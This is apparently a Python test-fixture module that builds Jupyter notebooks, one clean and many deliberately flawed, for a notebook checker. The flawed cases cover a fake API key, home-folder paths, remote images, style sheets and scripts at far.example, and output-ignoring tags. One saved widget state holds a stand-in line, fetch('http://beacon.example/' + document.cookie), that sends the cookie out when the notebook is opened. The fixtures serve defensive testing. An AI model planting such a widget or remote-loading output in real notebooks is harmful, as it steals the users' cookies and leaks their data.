"""Notebooks made for a test: honest ones, and one for every way to be bad. No secret is in any file of the project."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode

KEY = "sk-proj-" + "Ab3dEf6hIj9k" * 4
HOME = "/" + "home/ada/study"
STATE = "application/vnd.jupyter.widget-state+json"
HOSTILE = {
    STATE: {
        "version_major": 2,
        "version_minor": 0,
        "state": {
            "m1": {
                "model_name": "AnyModel",
                "model_module": "anywidget",
                "model_module_version": "~0.9",
                "state": {"_esm": "fetch('http://beacon.example/' + document.cookie)"},
            }
        },
    }
}
"""A saved widget that whoever opens the notebook runs."""


def code(source: str, count: int | None, *outputs: NotebookNode, tags: tuple[str, ...] = ()) -> NotebookNode:
    metadata = {"tags": list(tags)} if tags else {}
    return nbformat.v4.new_code_cell(source, execution_count=count, outputs=list(outputs), metadata=metadata)


def text(source: str) -> NotebookNode:
    return nbformat.v4.new_markdown_cell(source)


def shown(data: dict[str, Any], count: int = 2) -> NotebookNode:
    return nbformat.v4.new_output("execute_result", data, execution_count=count)


def printed(said: str, name: str = "stdout") -> NotebookNode:
    return nbformat.v4.new_output("stream", name=name, text=said)


def notebook(*cells: NotebookNode) -> NotebookNode:
    made = nbformat.v4.new_notebook(cells=list(cells))
    for number, cell in enumerate(made.cells):
        cell.id = f"cell-{number:02}"
    made.metadata["kernelspec"] = {"display_name": "Python 3", "language": "python", "name": "python3"}
    made.metadata["language_info"] = {"name": "python"}
    return made


def honest() -> NotebookNode:
    """Cells 2 and 4 hold code, and nothing is wrong with either."""
    return notebook(
        text("# A question"),
        code("import math", 1),
        text("Expect four."),
        code("answer = 4\nanswer", 2, shown({"text/plain": "4"})),
    )


def saved(made: NotebookNode, path: Path) -> Path:
    nbformat.write(made, path)
    return path


def with_output(data: dict[str, Any]) -> Callable[[NotebookNode], Any]:
    return lambda made: made.cells[3].outputs.append(nbformat.v4.new_output("display_data", data))


def with_source(source: str) -> Callable[[NotebookNode], Any]:
    return lambda made: made.cells[3].update(source=source)


def with_html(html: str) -> Callable[[NotebookNode], Any]:
    return with_output({"text/html": html, "text/plain": "a figure"})


FOURTH = 'cell 4 "answer = 4"'
BAD: dict[str, tuple[Callable[[NotebookNode], Any], str, str]] = {
    "a secret in a source": (with_source(f"answer = 4\nkey = '{KEY}'"), "secret", f"{FOURTH}, source"),
    "a secret in an output": (with_output({"text/plain": KEY}), "secret", f"{FOURTH}, output 2"),
    "a secret in metadata": (
        lambda made: made.cells[3].metadata.update(note=KEY), "secret", f"{FOURTH}, metadata",
    ),
    "A38, a hostile widget": (
        lambda made: made.metadata.update(widgets=HOSTILE), "widget-state", "the notebook, metadata",
    ),
    "a widget's state in an output": (with_output(HOSTILE), "widget-state", f"{FOURTH}, output 2"),
    "an image elsewhere": (with_html('<img src="http://far.example/a.png">'), "remote", f"{FOURTH}, output 2"),
    "an image without a scheme": (with_html("<img src=//far.example/a.png>"), "remote", f"{FOURTH}, output 2"),
    "a style sheet elsewhere": (
        with_html('<link rel="stylesheet" href="https://far.example/a.css">'), "remote", f"{FOURTH}, output 2",
    ),
    "a style that fetches": (
        with_html('<p style="background:\\75 rl(https://far.example/a.png)">x</p>'), "remote", f"{FOURTH}, output 2",
    ),
    "an import in a style": (
        with_html('<style>@import "//far.example/a.css";</style>'), "remote", f"{FOURTH}, output 2",
    ),
    "an image in a comment": (
        with_html("<!--><img src=http://far.example/a.png>-->"), "remote", f"{FOURTH}, output 2",
    ),
    "a script elsewhere": (
        with_output({"application/javascript": "import('https://far.example/a.js')"}), "remote", f"{FOURTH}, output 2",
    ),
    "an image in Markdown": (
        with_output({"text/markdown": "![a][b]\n\n[b]: https://far.example/a.png"}), "remote", f"{FOURTH}, output 2",
    ),
    "a chart that loads": (
        with_output({"application/vnd.vegalite.v5+json": {"data": {"url": "https://far.example/a.csv"}}}),
        "remote", f"{FOURTH}, output 2",
    ),
    "a home folder in a source": (with_source(f"answer = 4\nopen('{HOME}/a.csv')"), "path", f"{FOURTH}, source"),
    "a home folder in an output": (with_output({"text/plain": f"{HOME}/a.csv"}), "path", f"{FOURTH}, output 2"),
    "a temporary folder": (with_output({"text/plain": "in /" + "tmp/ipykernel_1/2.py"}), "path", f"{FOURTH}, output 2"),
    "a drive of Windows": (with_output({"text/plain": "C:\\Users\\ada\\a.csv"}), "path", f"{FOURTH}, output 2"),
    "a coloured path": (with_output({"text/plain": f"\x1b[32m{HOME}/a.py\x1b[0m"}), "path", f"{FOURTH}, output 2"),
    "a large output": (with_output({"text/plain": "x" * 1_100_000}), "size", f"{FOURTH}, output 2"),
    "out of order": (lambda made: made.cells[3].update(execution_count=7), "order", FOURTH),
    "stripped": (lambda made: made.cells[3].update(execution_count=None, outputs=[]), "order", FOURTH),
    "ignored by a tag": (
        lambda made: made.cells[3].metadata.update(tags=["nbval-ignore-output"]), "ignored", FOURTH,
    ),
    "ignored by a comment": (with_source("answer = 4\n# NBVAL_IGNORE_OUTPUT\nanswer"), "ignored", FOURTH),
    "an error without a reason": (
        lambda made: made.cells[3].metadata.update(tags=["raises-exception"]), "ignored", FOURTH,
    ),
}  # fmt: skip
"""What is done to an honest notebook, the rule it breaks, and what a person is told about where."""


def bad(name: str) -> NotebookNode:
    made = honest()
    BAD[name][0](made)
    return made
